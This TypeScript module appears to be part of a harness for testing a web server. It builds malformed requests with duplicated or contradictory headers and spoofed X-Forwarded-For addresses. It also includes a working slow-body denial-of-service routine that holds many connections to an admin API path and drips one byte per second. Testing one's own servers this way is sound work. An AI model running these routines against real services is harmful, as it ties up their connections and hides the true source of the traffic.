import { connect, type Socket } from 'node:net'
import type { Target } from './browser.ts'
import { writeAsBrowser } from './browser.ts'
import { among } from './random.ts'

/** Headers that are repeated or contradict each other. */
const DOUBLED = [
  'Content-Type: application/json\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\n{}',
  'Content-Type: application/json, text/plain\r\nContent-Length: 2\r\n\r\n{}',
  'Accept-Encoding: br\r\nAccept-Encoding: identity;q=0\r\n\r\n',
  'Cookie: lang=de\r\nCookie: lang=ko; lang=zh\r\n\r\n',
  'If-None-Match: *\r\nIf-None-Match: W/"x"\r\n\r\n',
  'Accept-Language: de\r\nAccept-Language: \r\nX-Forwarded-For: 1.2.3.4, ::1\r\nX-Forwarded-For: 10.0.0.1\r\n\r\n',
]
const METHODS = ['GET', 'POST', 'PUT', 'DELETE', 'GET', 'OPTIONS']

/** `isDoubled` requests have a method and headers that no browser sends. */
export interface Attack extends Target {
  isDoubled?: boolean
  n: number
}

export function writeAttack(address: string) {
  const write = writeAsBrowser(address)
  return (attack: Attack) => {
    const text = write(attack)
    if (!attack.isDoubled) return text
    return text.replace('GET', among(METHODS, attack.n)).replace(/\r\n\r\n$/, `\r\n${among(DOUBLED, attack.n)}`)
  }
}

const BYTE_EVERY_MS = 1_000

/** Opens requests whose bodies arrive byte by byte. They look as if they came through a proxy. `close` ends the requests. */
export function sendSlowBodies(address: string, count: number, from: string) {
  const { hostname, port, host } = new URL(address)
  const sockets = new Set<Socket>()
  const open = (n: number) => {
    const method = n % 2 ? 'POST' : 'GET'
    const socket = connect({ host: hostname, port: Number(port) })
    socket.on('error', () => {})
    socket.on('close', () => sockets.delete(socket))
    socket.write(
      `${method} /api/admin/product/page HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: ${from}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{`,
    )
    sockets.add(socket)
  }
  for (let n = 0; n < count; n++) open(n)
  const sending = setInterval(() => sockets.forEach((socket) => socket.write(' ')), BYTE_EVERY_MS)
  return {
    close: () => {
      clearInterval(sending)
      sockets.forEach((socket) => socket.destroy())
    },
  }
}
